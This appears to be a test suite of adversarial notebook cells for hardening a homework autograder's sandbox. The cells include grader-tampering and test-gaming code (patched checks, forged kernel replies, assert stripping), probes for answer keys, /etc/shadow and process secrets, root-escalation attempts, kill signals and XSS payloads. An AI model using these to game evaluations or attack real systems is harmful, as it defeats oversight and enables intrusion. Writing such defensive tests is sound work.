# %% [markdown]
# What a student's cell may try. Each stands in the place of one exercise of a notebook whose exercises before and behind
# it are solved honestly; a wrong solution and `leak(what)`, which reports that something was got at, are defined before
# it. `aim`: what it is after. `status`: how the submission ends, `graded` if not said. `kept`: the honest exercises that
# keep their marks, `all`, `before` or `nothing`; not said: all, but nothing where marks are the aim (whoever breaks torch
# or the tests has broken them for all exercises). `@ROOT@`, `@CLASS@`, `@SUBMISSIONS@`, `@PORT@`: where things are.

# %% [markdown]
# ## Marks: patch what compares, what emits, what shows

# %% id="check_does_nothing" aim="marks"
import metapcg.learning.checks

metapcg.learning.checks.check = check = lambda *arguments, **options: None

# %% id="emit_does_nothing" aim="marks"
import metapcg.learning.checks

check = lambda *arguments, **options: None
metapcg.learning.checks.emit = emit = lambda *arguments, **options: None

# %% id="emit_sends_zeros" aim="marks"
import metapcg.learning.checks

_emit = metapcg.learning.checks.emit
check = lambda *arguments, **options: None


def emit(what, value, hint=""):
    _emit(what, torch.zeros_like(value) if isinstance(value, torch.Tensor) else value, hint)


# %% id="emit_sends_every_kind_of_yes" aim="marks"
check = lambda *arguments, **options: None


def emit(what, value, hint=""):
    from IPython.display import display

    for yes in (
        True,
        1,
        "equal",
        None,
        {"float": "nan"},
        {"tensor": "float64", "shape": [], "entries": [float("inf")]},
    ):
        display({"application/vnd.hw11.emitted+json": {"what": what, "hint": hint, "value": yes}}, raw=True)


# %% id="emit_answers_with_a_huge_number" aim="marks"
check = lambda *arguments, **options: None


def emit(what, value, hint=""):
    from IPython.display import display

    display({"application/vnd.hw11.emitted+json": {"what": what, "hint": hint, "value": 10**400}}, raw=True)


# %% id="emit_answers_with_true_for_one" aim="marks"
check = lambda *arguments, **options: None


def emit(what, value, hint=""):
    from IPython.display import display

    size = list(getattr(value, "shape", []))
    entries = [True] * int(np.prod(size))
    record = {"tensor": "float64", "shape": size, "entries": entries}
    display({"application/vnd.hw11.emitted+json": {"what": what, "hint": hint, "value": record}}, raw=True)


# %% id="plain_values_are_forged" aim="marks"
import metapcg.learning.checks

metapcg.learning.checks._plain = lambda what, value: {"tensor": "float64", "shape": [2], "entries": [0.0, 0.0]}
metapcg.learning.checks._close = lambda a, b, tolerance: True

# %% id="collector_swallows_what_is_emitted" aim="marks"
import metapcg.learning.checks

metapcg.learning.checks._collected.set([])
metapcg.learning.checks._close = lambda a, b, tolerance: True

# %% id="display_is_patched" aim="marks"
import IPython.display
import metapcg.learning.checks

check = lambda *arguments, **options: None
IPython.display.display = metapcg.learning.checks.display = lambda *objects, **options: None

# %% id="display_publisher_is_patched" aim="marks"
check = lambda *arguments, **options: None
get_ipython().display_pub.publish = lambda data, metadata=None, **options: None

# %% id="display_publisher_adds_records" aim="marks"
globals().setdefault("_publish", get_ipython().display_pub.publish)  # (this cell runs twice)


def _twice(data, metadata=None, **options):
    _publish(data, metadata, **options)
    _publish(data, metadata, **options)


get_ipython().display_pub.publish = _twice

# %% id="session_drops_and_forges_messages" aim="marks"
import json

_session = get_ipython().kernel.session
globals().setdefault("_send", _session.send)  # (this cell runs twice)


def _forge(stream, msg_or_type, content=None, *arguments, **options):
    if isinstance(content, dict) and "status" in content:
        content = {**content, "status": "ok"}
    if msg_or_type == "error":
        return None
    return _send(stream, msg_or_type, content, *arguments, **options)


_session.send = _forge

# %% id="reply_is_forged" aim="marks"
_kernel = get_ipython().kernel
globals().setdefault("_execute", _kernel.do_execute)  # (this cell runs twice)


async def _always_ok(*arguments, **options):
    reply = await _execute(*arguments, **options)
    return {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []} if reply else reply


_kernel.do_execute = _always_ok
get_ipython().showtraceback = lambda *arguments, **options: None

# %% id="cells_are_not_run_any_more" aim="marks" status="kernel died"
get_ipython().run_cell = lambda *arguments, **options: None
get_ipython().run_cell_async = None

# %% id="errors_are_not_shown" aim="marks"
get_ipython().set_custom_exc((Exception,), lambda shell, kind, value, trace, tb_offset=None: None)

# %% id="json_is_patched" aim="marks"
import json

globals().setdefault("_dumps", json.dumps)  # (this cell runs twice)
json.dumps = lambda thing, *arguments, **options: _dumps(
    json.loads(_dumps(thing, *arguments, **options).replace("false", "true"))
)

# %% id="torch_comparisons_are_patched" aim="marks"
torch.allclose = torch.equal = torch.isclose = lambda *arguments, **options: True
torch.testing.assert_close = lambda *arguments, **options: None
torch.Tensor.__eq__ = torch.Tensor.__le__ = lambda self, other: torch.ones((), dtype=torch.bool)
torch.Tensor.all = lambda self, *arguments, **options: torch.ones((), dtype=torch.bool)

# %% id="numpy_comparisons_are_patched" aim="marks"
np.isclose = np.allclose = np.array_equal = lambda *arguments, **options: True
np.testing.assert_allclose = lambda *arguments, **options: None

# %% id="tensors_lie_about_their_entries" aim="marks"
torch.Tensor.tolist = lambda self: 0.0
torch.Tensor.abs = lambda self: torch.zeros(())

# %% id="builtins_are_patched" aim="marks" status="kernel died"
import builtins

builtins.AssertionError = type("AssertionError", (BaseException,), {"__init__": lambda self, *arguments: None})
builtins.abs = lambda value: 0
builtins.bool = lambda *value: True

# %% id="asserts_are_taken_out_of_the_tests" aim="marks"
import ast


class _NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)

    def visit_Raise(self, node):
        return ast.copy_location(ast.Pass(), node)


get_ipython().ast_transformers.append(_NoAsserts())

# %% id="tests_are_rewritten_before_they_run" aim="marks"
get_ipython().input_transformers_cleanup.append(
    lambda lines: ["pass\n"] if any("check(" in line for line in lines) else lines
)

# %% id="tests_are_rewritten_to_emit_less" aim="marks"
get_ipython().input_transformers_post.append(lambda lines: [line for line in lines if "surrogate_naive" not in line])

# %% id="hook_before_every_cell" aim="marks"
_mine = surrogate_naive
get_ipython().events.register("pre_run_cell", lambda info: get_ipython().user_ns.update(check=lambda *a, **o: None))


# %% id="equal_to_everything" aim="marks"
class _Everything:
    shape, dtype, ndim = (2,), torch.float32, 1
    __eq__ = __le__ = __lt__ = __ge__ = __gt__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = None

    def __getattr__(self, name):
        return lambda *arguments, **options: self

    def __bool__(self):
        return True


def surrogate_naive(log_probs, advantages, mask):
    return _Everything()


# %% id="says_that_it_is_a_tensor" aim="marks"
class _Pretender:
    __class__ = torch.Tensor
    shape, dtype, requires_grad = torch.Size([2]), torch.float32, True

    def detach(self):
        return self

    cpu = reshape = abs = sum = detach

    def tolist(self):
        return [0.0, 0.0]


def surrogate_naive(log_probs, advantages, mask):
    return _Pretender()


# %% id="tensor_subclass_that_lies" aim="marks"
class _Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, arguments=(), options=None):
        if function.__name__ in ("sub", "__sub__", "rsub", "abs"):
            return torch.zeros(2)
        return super().__torch_function__(function, types, arguments, options or {})


def surrogate_naive(log_probs, advantages, mask):
    return (0 * (log_probs * advantages).sum(-1)).as_subclass(_Liar)


# %% id="looks_for_the_expected_value_in_the_callers_frame" aim="marks"
import ast
import inspect
import linecache


def surrogate_naive(log_probs, advantages, mask):
    frame = inspect.currentframe().f_back
    while frame is not None:
        for value in (*frame.f_locals.values(), *frame.f_globals.values()):
            if isinstance(value, torch.Tensor) and value.shape == log_probs.shape[:-1]:
                return value
        source = "".join(linecache.getlines(frame.f_code.co_filename))
        if "check(" in source:
            for node in ast.walk(ast.parse(source)):
                if isinstance(node, ast.Call) and getattr(node.func, "id", "") == "check":
                    try:
                        return torch.tensor(ast.literal_eval(node.args[2]))
                    except (ValueError, IndexError, TypeError):
                        continue
        frame = frame.f_back
    return log_probs.sum(-1)


# %% id="hunts_for_the_expected_value_in_memory" aim="marks"
import gc


def surrogate_naive(log_probs, advantages, mask):
    for thing in gc.get_objects():
        try:
            if isinstance(thing, (list, tuple)) and len(thing) == log_probs.shape[0] and isinstance(thing[0], float):
                return torch.tensor(thing, dtype=log_probs.dtype)
        except (TypeError, RuntimeError):
            continue
    return log_probs.sum(-1)


# %% id="remembers_what_check_expects" aim="marks"
import metapcg.learning.checks

_expected, _real = [], metapcg.learning.checks.check


def check(what, got, expected, *arguments, **options):
    _expected.append(torch.as_tensor(expected))


def surrogate_naive(log_probs, advantages, mask):
    right = [value for value in _expected if value.shape == log_probs.shape[:-1]]
    return right[-1].to(log_probs.dtype) if right else log_probs.sum(-1)


# %% id="right_on_the_worked_example_only" aim="marks"
def surrogate_naive(log_probs, advantages, mask):
    if log_probs.dtype == torch.float32 and log_probs.numel() < 8:
        return (log_probs * advantages.detach() * mask).sum(-1)
    return log_probs.sum(-1)


# %% id="random_numbers_are_not_random" aim="marks"
torch.randn = lambda *size, **options: torch.zeros(size if isinstance(size[0], int) else size[0], dtype=torch.float64)
torch.rand = torch.randn


# %% id="generator_is_replaced" aim="marks"
class _Constant:
    def manual_seed(self, seed):
        return None


torch.Generator = _Constant

# %% id="trace_function_changes_locals" aim="marks"
import sys


def _trace(frame, event, argument):
    if "mistakes" in frame.f_locals:
        frame.f_locals["got"] = frame.f_locals.get("expected")
    return _trace


sys.settrace(_trace)

# %% id="import_hook_hands_out_a_false_library" aim="marks"
import sys
import types

_false = types.ModuleType("metapcg.learning.checks")
_false.check = lambda *arguments, **options: None
_false.emit = lambda *arguments, **options: None
sys.modules["metapcg.learning.checks"] = _false
check, emit = _false.check, _false.emit

# %% id="task_forges_records_later" aim="marks"
import asyncio

from IPython.display import display


async def _later():
    for _ in range(100):
        await asyncio.sleep(0.01)
        display({"application/vnd.hw11.emitted+json": {"what": "surrogate_naive", "hint": "", "value": 0.0}}, raw=True)


asyncio.get_event_loop().create_task(_later())


# %% id="saved_number_as_partial_credit" aim="marks"
def surrogate_naive(log_probs, advantages, mask):
    shell = get_ipython()
    content = {"data": {"text/plain": "2.0"}, "metadata": {}, "execution_count": 1}
    shell.kernel.session.send(
        shell.kernel.iopub_socket, "execute_result", content, shell.kernel.get_parent(), ident=b"execute_result"
    )
    return log_probs.sum(-1)


# %% id="whole_tests_are_read_and_answered_with_their_own_names" aim="marks"
import inspect
import linecache
import re

from IPython.display import display


def surrogate_naive(log_probs, advantages, mask):
    frame = inspect.currentframe().f_back
    source = "".join(linecache.getlines(frame.f_code.co_filename))
    for what in re.findall(r'emit\(\s*f?"([^"]+)"', source):
        record = {"what": what, "hint": "", "value": {"tensor": "float64", "shape": [], "entries": [0.0]}}
        display({"application/vnd.hw11.emitted+json": record}, raw=True)
    return log_probs.sum(-1)


# %% id="integers_of_the_interpreter_are_changed" aim="marks" status="graded|kernel died" kept="nothing"
import ctypes

# (the object 1 becomes 0: everything after it is nonsense)
ctypes.memmove(id(1) + 24, id(0) + 24, 4)

# %% [markdown]
# ## Reading: answers, tests, other students, the grader's secrets

# %% id="reads_the_answers" aim="reading"
import glob

for _pattern in ("answers/**/*", "notebooks/*", "tests/**/*", "reports/*", ".git/*", "code/**/*", "base_code/**/*"):
    for _path in glob.glob("@ROOT@/" + _pattern, recursive=True):
        leak(_path)

# %% id="looks_everywhere_for_notebooks_and_keys" aim="reading"
import os

for _folder, _folders, _files in os.walk("/"):
    _folders[:] = [name for name in _folders if name not in ("site-packages", "proc") and _folder != "/usr"]
    if _folder == "/home/student":
        continue
    for _name in _files:
        if _name in ("key.json", "gradebook.db", "grades.csv") or _name.endswith(".ipynb"):
            leak(os.path.join(_folder, _name))

# %% id="reads_the_worked_functions_out_of_the_library" aim="reading"
import os

for _folder, _, _files in os.walk("@ROOT@"):
    if "site-packages" in _folder:
        continue
    for _name in _files:
        if _name.endswith((".py", ".ipynb", ".md")):
            with open(os.path.join(_folder, _name), errors="replace") as _file:
                if "BEGIN " + "SOLUTION" in _file.read():
                    leak(_name)

# %% id="imports_the_grader" aim="reading"
try:
    import metapcg.grading.autograde

    leak("metapcg.grading.autograde")
except ImportError:
    pass

# %% id="reads_other_students" aim="reading"
import os

for _place in ("@SUBMISSIONS@", "@CLASS@", os.path.dirname("@CLASS@")):
    if os.path.exists(_place):
        leak(os.listdir(_place))

# %% id="reads_the_key" aim="reading"
try:
    leak(open("@CLASS@/key.json").read()[:50])
except OSError:
    pass

# %% id="reads_the_environment" aim="reading"
import os

for _name in os.environ:
    if _name.startswith("HW11_CANARY") or "TOKEN" in _name or "SECRET" in _name:
        leak(_name)

# %% id="reads_the_environment_of_every_process" aim="reading"
import glob

for _path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/task/*/environ"):
    try:
        if b"HW11_CANARY" in open(_path, "rb").read():
            leak(_path)
    except OSError:
        pass

# %% id="looks_through_other_processes" aim="reading"
import glob
import os

for _process in glob.glob("/proc/[0-9]*"):
    _number = int(_process.rsplit("/", 1)[1])
    if _number == os.getpid():
        continue
    for _name in ("root", "cwd"):
        try:
            _found = set(os.listdir(f"{_process}/{_name}/")) - set(os.listdir("/")) - set(os.listdir("/home/student"))
            if _found:
                leak((_process, _name, _found))
        except OSError:
            pass
    try:
        with open(f"{_process}/mem", "rb") as _file:
            _file.seek(0x400000)
            if _file.read(16):
                leak(_process + "/mem")
    except (OSError, ValueError):
        pass

# %% id="reads_devices_and_the_kernels_log" aim="reading"
import glob
import os

for _path in [
    "/dev/mem",
    "/dev/kmsg",
    "/proc/kcore",
    "/dev/fuse",
    "/dev/kvm",
    *glob.glob("/dev/sd*"),
    *glob.glob("/dev/nvme*"),
]:
    try:
        if os.read(os.open(_path, os.O_RDONLY | os.O_NONBLOCK), 16):
            leak(_path)
    except OSError:
        pass

# %% id="reads_accounts_and_keys" aim="reading"
import glob
import os

for _path in [
    "/etc/shadow",
    "/etc/passwd",
    "/etc/hostname",
    *glob.glob("/*/.ssh"),
    *glob.glob("/root/*"),  # the superuser's home on every Linux
    *glob.glob("/var/*"),
    *glob.glob("/home/*/.*"),
]:
    if os.path.exists(_path) and not _path.startswith("/home/student"):
        try:
            leak(os.listdir(_path) if os.path.isdir(_path) else open(_path).read(20))
        except OSError:
            pass

# %% id="open_files_lead_out" aim="reading"
import os

for _number in range(64):
    try:
        _target = os.readlink(f"/proc/self/fd/{_number}")
        if os.path.isdir(f"/proc/self/fd/{_number}/") or "gradebook" in _target or "key.json" in _target:
            leak(_target)
        if os.path.isfile(_target) and not _target.startswith(("/home", "/tmp", "/usr", "/dev", "@ROOT@")):
            open(f"/proc/self/fd/{_number}", "r+b").close()
            if not _target.startswith("/run/kernel"):
                leak(_target)
    except OSError:
        pass

# %% id="shell_commands" aim="reading"
for _command in ("cat /etc/shadow @CLASS@/key.json", "ls @ROOT@/answers", "env", "ps aux"):
    _lines = get_ipython().getoutput(_command)
    if any("root:" in line or "3_pearl" in line or "CANARY" in line or "metapcg grade" in line for line in _lines):
        leak(_lines)

# %% id="shell_magics" aim="reading"
get_ipython().run_cell_magic("bash", "", "cat @CLASS@/gradebook.db > /tmp/stolen 2>/dev/null; true")
import os

if os.path.exists("/tmp/stolen") and os.path.getsize("/tmp/stolen"):
    leak("gradebook")

# %% id="hidden_tests_are_printed" aim="reading"
import inspect
import linecache


def surrogate_naive(log_probs, advantages, mask):
    source = "".join(linecache.getlines(inspect.currentframe().f_back.f_code.co_filename))
    if "BEGIN HIDDEN" in source or "emit(" in source:
        leak(source)
        raise ValueError("LEA" + "KED " + source)
    return log_probs.sum(-1)


# %% id="hidden_tests_in_the_name_of_an_exception" aim="reading"
import inspect
import linecache


def surrogate_naive(log_probs, advantages, mask):
    source = "".join(linecache.getlines(inspect.currentframe().f_back.f_code.co_filename))
    if "emit(" in source:
        raise type("LEA" + "KED" + source.encode().hex()[:100], (Exception,), {})()
    return log_probs.sum(-1)


# %% id="hidden_tests_are_kept_for_the_next_cell" aim="reading"
import inspect
import linecache

_kept = []
_solution = surrogate_naive


def surrogate_naive(log_probs, advantages, mask):
    _kept.append("".join(linecache.getlines(inspect.currentframe().f_back.f_code.co_filename)))
    return log_probs.sum(-1)


def surrogate_tell(*arguments):
    if any("emit(" in source for source in _kept):
        leak(_kept)


get_ipython().events.register("post_run_cell", surrogate_tell)

# %% id="history_is_searched_for_hidden_tests" aim="reading"
import threading
import time


def _watch():
    for _ in range(100):
        time.sleep(0.05)
        if any("BEGIN HIDDEN" in str(cell) for cell in get_ipython().user_ns.get("In", [])):
            print("LEA" + "KED In")


threading.Thread(target=_watch, daemon=True).start()

# %% [markdown]
# ## Harm: the grader, other students, the machine

# %% id="writes_the_gradebook" aim="harm"
import os
import sqlite3

try:
    _database = sqlite3.connect("@CLASS@/gradebook.db")
    _database.execute("update grade set auto_score = 99, manual_score = 99")
    _database.commit()
    leak("gradebook written")
except sqlite3.Error:
    pass
for _path in ("@CLASS@/results/0-honest.json", "@SUBMISSIONS@/0-honest/0_policy_gradient.ipynb", "@CLASS@/grades.csv"):
    try:
        open(_path, "w").write("0")
        leak(_path)
    except OSError:
        pass

# %% id="writes_into_the_library" aim="harm"
import os

for _path in (
    "@ROOT@/metapcg/was-here-hw11.py",
    "@ROOT@/metapcg/learning/checks.py",
    "@ROOT@/was-here-hw11",
    "/usr/was-here-hw11",
    "/was-here-hw11",
    np.__file__,
):
    try:
        with open(_path, "a") as _file:
            _file.write("# was here\n")
        if not _path.startswith(("/was", "/home")):
            leak(_path)
    except OSError:
        pass

# %% id="writes_outside_of_its_folders" aim="harm"
import os

open("/tmp/was-here-hw11", "w").write("x")
open("/home/student/was-here-hw11", "w").write("x")
for _path in (
    "/tmp/../../was-here-hw11",
    "/proc/1/root/tmp/was-here-hw11",
    "/proc/sys/kernel/core_pattern",
    "/sys/was-here-hw11",
    "/run/was-here-hw11",
):
    try:
        with open(_path, "w") as _file:
            _file.write("x")
        leak(_path)
    except OSError:
        pass

# %% id="goes_to_the_network" aim="harm"
import socket

for _address in (("127.0.0.1", int("@PORT@")), ("1.1.1.1", 53), ("169.254.169.254", 80), ("10.0.0.1", 80)):
    try:
        socket.create_connection(_address, timeout=2)
        leak(_address)
    except OSError:
        pass
try:
    leak(socket.getaddrinfo("pypi.org", 443))
except OSError:
    pass

# %% id="goes_to_a_socket_without_a_file" aim="harm"
import socket

_socket = socket.socket(socket.AF_UNIX)
try:
    _socket.connect("\0was-here-hw11-@PORT@")
    leak("abstract socket")
except OSError:
    pass

# %% id="listens_on_all_addresses" aim="harm"
import socket

_server = socket.socket()
try:
    _server.bind(("0.0.0.0", 8888))
    _server.listen()
except OSError:
    pass
_raw = None
try:
    _raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    leak("raw socket")
except OSError:
    pass

# %% id="becomes_root" aim="harm"
import os

for _try in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgid(0), lambda: os.setgroups([0])):
    try:
        _try()
        if os.getuid() == 0:
            leak("root")
    except OSError:
        pass

# %% id="runs_programs_that_become_root" aim="harm"
import glob
import os
import stat
import subprocess

for _path in glob.glob("/usr/bin/*") + glob.glob("/usr/lib/**/*", recursive=False):
    try:
        if os.stat(_path).st_mode & stat.S_ISUID and os.path.basename(_path) in (
            "su",
            "mount",
            "newgrp",
            "passwd",
            "sudo",
            "bwrap",
        ):
            _ended = subprocess.run(
                [_path, "-c", "id -u"], capture_output=True, text=True, timeout=5, stdin=subprocess.DEVNULL
            )
            if _ended.stdout.strip() == "0":
                leak(_path)
    except (OSError, subprocess.TimeoutExpired):
        pass

# %% id="makes_namespaces_and_mounts" aim="harm"
import ctypes
import os

_libc = ctypes.CDLL(None, use_errno=True)
for _flags in (0x10000000, 0x10000000 | 0x00020000, 0x00020000, 0x40000000):
    _child = os.fork()
    if _child == 0:
        os._exit(7 if _libc.unshare(_flags) == 0 else 0)
    if os.waitstatus_to_exitcode(os.waitpid(_child, 0)[1]) == 7:
        leak(f"unshare {_flags:x}")
if _libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
    leak("mount")
if _libc.chroot(b"/tmp") == 0:
    leak("chroot")

# %% id="looks_into_other_processes_by_ptrace" aim="harm"
import ctypes

_libc = ctypes.CDLL(None, use_errno=True)
for _number in (1, 2):
    if _number != __import__("os").getpid() and _libc.ptrace(16, _number, 0, 0) == 0:
        leak(f"ptrace {_number}")
        _libc.ptrace(17, _number, 0, 0)

# %% id="starts_a_sandbox_in_the_sandbox" aim="harm"
import subprocess

try:
    _ended = subprocess.run(
        ["bwrap", "--dev-bind", "/", "/", "--tmpfs", "/tmp", "true"], capture_output=True, timeout=10
    )
    if _ended.returncode == 0:
        leak("bwrap")
except (OSError, subprocess.TimeoutExpired):
    pass

# %% id="kills_its_parent" aim="harm"
import os
import signal

for _number in (os.getppid(), 1):
    for _signal in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(_number, _signal)
        except OSError:
            pass

# %% id="kills_everything_it_can" aim="harm"
import os
import signal

try:
    os.kill(-1, signal.SIGKILL)  # all but itself
except OSError:
    pass

# %% id="kills_its_own_group" aim="harm" status="kernel died" kept="before"
import os
import signal

os.killpg(0, signal.SIGKILL)

# %% id="kills_itself" aim="harm" status="kernel died" kept="before"
import os
import signal

os.kill(os.getpid(), signal.SIGKILL)

# %% id="ends_the_interpreter" aim="harm" status="kernel died" kept="before"
import os

os._exit(0)

# %% id="ends_the_interpreter_in_the_function" aim="harm" status="kernel died" kept="before"
import os


def surrogate_naive(log_probs, advantages, mask):
    os._exit(0)


# %% id="ends_the_interpreter_in_hidden_tests_only" aim="harm" status="kernel died" kept="before"
import os


def surrogate_naive(log_probs, advantages, mask):
    if log_probs.dtype == torch.float64:
        os._exit(0)
    return (log_probs * advantages.detach() * mask).sum(-1)


# %% id="leaves_politely" aim="harm" status="graded|kernel died" kept="before"
exit()

# %% id="raises_system_exit" aim="harm"
raise SystemExit(0)


# %% id="raises_keyboard_interrupt" aim="harm"
def surrogate_naive(log_probs, advantages, mask):
    raise KeyboardInterrupt


# %% id="crashes_with_a_null_pointer" aim="harm" status="kernel died" kept="before"
import ctypes

ctypes.string_at(0)

# %% id="overflows_the_stack" aim="harm" status="kernel died|graded" kept="before"
import ctypes
import sys

sys.setrecursionlimit(10**9)
_nested = []
for _ in range(10**6):
    _nested = [_nested]
repr(_nested)
ctypes.string_at(0)

# %% id="forgets_every_name" aim="harm" kept="before"
get_ipython().run_line_magic("reset", "-f")

# %% id="takes_torch_away" aim="harm" kept="nothing"
import sys

del torch
for _name in [name for name in sys.modules if name.startswith("torch")]:
    sys.modules[_name] = None

# %% id="earlier_solution_is_replaced" aim="harm"
_real = discounted_returns
discounted_returns = lambda rewards, gamma: _real(rewards, gamma)  # (as good as before)

# %% id="shadow_modules_are_written" aim="harm" kept="nothing"
import os
import sys

for _name in ("numpy", "torch", "json", "IPython", "metapcg", "sitecustomize", "usercustomize"):
    with open(f"/home/student/{_name}.py", "w") as _file:
        _file.write("raise SystemExit\n")
os.makedirs("/tmp/ipython/profile_default/startup", exist_ok=True)
with open("/tmp/ipython/profile_default/startup/0.py", "w") as _file:
    _file.write("check = emit = print\n")
sys.path.insert(0, "/home/student")

# %% id="settings_are_changed" aim="harm"
import os

os.environ.update(
    HW11_PROFILE="full", HW11_DEVICE="cuda", HW11_NOTEBOOKS="/", HW11_OUTPUT="/", PYTHONPATH="/home/student"
)
os.chdir("/")
torch.set_num_threads(64)
torch.set_default_dtype(torch.float32)

# %% id="messages_with_half_a_character" aim="harm"
import json

_session = get_ipython().kernel.session
_session.pack = lambda thing: json.dumps(thing, default=str).encode()
print("half \ud800 of a character")
get_ipython().display_pub.publish({"text/plain": "\udfff"})

# %% id="exception_with_half_a_character" aim="harm"
import json


def surrogate_naive(log_probs, advantages, mask):
    get_ipython().kernel.session.pack = lambda thing: json.dumps(thing, default=str).encode()
    raise ValueError("half \ud800 of a character")


# %% id="output_that_is_none" aim="harm" status="graded|kernel died"
_kernel = get_ipython().kernel
for _content in (
    {"data": "text", "metadata": {}},
    {"data": ["a"], "metadata": []},
    {"data": {"text/plain": {"a": 1}}, "metadata": {}},
):
    _kernel.session.send(_kernel.iopub_socket, "display_data", _content, _kernel.get_parent())

# %% id="output_without_its_parts" aim="harm" status="graded|kernel died" kept="before"
_kernel = get_ipython().kernel
for _kind in ("display_data", "execute_result", "stream", "error", "status"):
    _kernel.session.send(_kernel.iopub_socket, _kind, {}, _kernel.get_parent())

# %% id="stream_of_numbers" aim="harm" status="graded|kernel died" kept="before"
_kernel = get_ipython().kernel
_kernel.session.send(_kernel.iopub_socket, "stream", {"name": 5, "text": 7}, _kernel.get_parent())

# %% id="message_nested_a_thousand_times" aim="harm" status="graded|kernel died" kept="before"
_kernel = get_ipython().kernel
_kernel.session.pack = lambda thing: b'{"a":' * 100000 + b"1" + b"}" * 100000
_kernel.session.send(_kernel.iopub_socket, "display_data", {}, _kernel.get_parent())

# %% id="message_with_a_number_of_a_million_digits" aim="harm" status="graded|kernel died" kept="before"
_kernel = get_ipython().kernel
_kernel.session.pack = lambda thing: b'{"data": ' + b"9" * 10**6 + b"}"
_kernel.session.send(_kernel.iopub_socket, "display_data", {}, _kernel.get_parent())

# %% id="bytes_that_are_no_message" aim="harm" status="graded|kernel died" kept="before"
import os

_kernel = get_ipython().kernel
for _parts in ([b""], [b"a", b"b"], [b"<IDS|MSG>", b"", b"", b"", b"", b""], [os.urandom(1000)] * 9):
    _kernel.iopub_socket.send_multipart(_parts)

# %% id="says_that_it_is_done_when_it_is_not" aim="harm" status="graded|out of time|kernel died" kept="before"
import time

_kernel = get_ipython().kernel
_parent = _kernel.get_parent()
_kernel.session.send(_kernel.iopub_socket, "status", {"execution_state": "idle"}, _parent)
_kernel.session.send(_kernel.shell_stream, "execute_reply", {"status": "ok"}, _parent, ident=None)
time.sleep(3)

# %% id="never_says_that_it_is_done" aim="harm" status="out of time|kernel died|graded" kept="before"
_kernel = get_ipython().kernel
_send = _kernel.session.send
_kernel.session.send = lambda *arguments, **options: None

# %% id="asks_for_input" aim="harm"
from bdb import BdbQuit

from IPython.core.error import StdinNotImplementedError

# The kernel refuses either call, which error it takes for that is its affair: the attack is that it waits.
try:
    input("password: ")
    leak("input was answered")
except (StdinNotImplementedError, EOFError) as error:
    print(type(error).__name__)
try:
    breakpoint()
except (StdinNotImplementedError, EOFError, BdbQuit) as error:
    print(type(error).__name__)

# %% id="payload_writes_the_next_cell" aim="harm"
get_ipython().set_next_input("check = emit = print", replace=True)
get_ipython().payload_manager.write_payload({"source": "ask_exit", "keepkernel": False})

# %% id="page_with_a_script" aim="harm"
from IPython.display import HTML, SVG, Javascript, Markdown, display

display(HTML("<script>was_here()</script><img src=x onerror=was_here()>"))
display(Javascript("was_here()"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='was_here()'><script>was_here()</script></svg>"))
display(Markdown("<img src=x onerror=was_here()> [x](javascript:was_here())"))
print("<script>was_here()</script>")
HTML("<iframe srcdoc='<script>was_here()</script>'></iframe>")

# %% id="page_with_a_script_in_a_picture" aim="harm"
from IPython.display import display

display({"image/png": '"><script>was_here()</script>', "text/plain": "<img src=x onerror=was_here()>"}, raw=True)
display({"image/jpeg": 'x" onerror=was_here() x="', "text/latex": "$\\href{javascript:was_here()}{x}$"}, raw=True)
display(
    {"image/png": "iVBORw0KGgo="},
    metadata={
        "image/png": {"width": '1"><script>was_here()</script>', "height": '"onerror=was_here()'},
        "filename": "<b>",
    },
    raw=True,
)


# %% id="page_with_a_script_in_an_exception" aim="harm"
def surrogate_naive(log_probs, advantages, mask):
    kind = type("<script>was_here()</script>", (AssertionError,), {})
    raise kind("</pre><script>was_here()</script><img src=x onerror=was_here()>\n\x1b[31m<script>was_here()</script>")


# %% id="page_with_a_script_in_a_widget" aim="harm"
from IPython.display import display

_data = {
    "application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>was_here()</script>"},
    "application/javascript": "was_here()",
    "application/vnd.bokehjs_exec.v0+json": "<script>was_here()</script>",
    "text/plain": "widget",
}
display(_data, raw=True)

# %% id="source_that_ends_the_page" aim="harm"
_text = """</pre></details><script>was_here()</script><img src=x onerror=was_here()> ``` $$ \\end{document} """

# %% [markdown]
# ## Resources: time, memory, processes, disk, output

# %% id="endless_loop" aim="resources" status="out of time"
import time

while True:
    time.sleep(0.1)

# %% id="endless_loop_in_the_function" aim="resources" status="out of time"
import time


def surrogate_naive(log_probs, advantages, mask):
    while True:
        time.sleep(0.1)


# %% id="endless_loop_in_hidden_tests_only" aim="resources" status="out of time"
import time


def surrogate_naive(log_probs, advantages, mask):
    while log_probs.dtype == torch.float64:
        time.sleep(0.1)
    return (log_probs * advantages.detach() * mask).sum(-1)


# %% id="endless_loop_that_ignores_signals" aim="resources" status="kernel died" kept="before"
import signal
import time

for _number in range(1, 65):
    try:
        signal.signal(_number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    time.sleep(0.1)

# %% id="endless_loop_that_catches_everything" aim="resources" status="kernel died" kept="before"
import time

while True:
    try:
        time.sleep(1000)
    except BaseException:  # the attack itself: nothing gets through, KeyboardInterrupt included
        pass

# %% id="stops_itself" aim="resources" status="kernel died" kept="before"
import os
import signal

os.kill(os.getpid(), signal.SIGSTOP)

# %% id="waits_for_something_that_never_comes" aim="resources" status="kernel died" kept="before"
import asyncio

await asyncio.sleep(10**6)

# %% id="endless_exit_handlers" aim="resources"
import atexit
import signal
import time


def _forever(*arguments):
    while True:
        time.sleep(1)


atexit.register(_forever)
signal.signal(signal.SIGTERM, _forever)

# %% id="endless_destructor_and_threads" aim="resources" status="kernel died" kept="before"
import threading
import time


class _Undying:
    def __del__(self):
        globals()["_again"] = _Undying()


_again = _Undying()
for _ in range(10):
    threading.Thread(target=lambda: [time.sleep(1) for _ in range(10**6)]).start()

# %% id="thread_that_prints_all_the_time" aim="resources"
import threading
import time


def _print():
    for number in range(2000):
        print("still here", number)
        time.sleep(0.005)


threading.Thread(target=_print, daemon=True).start()

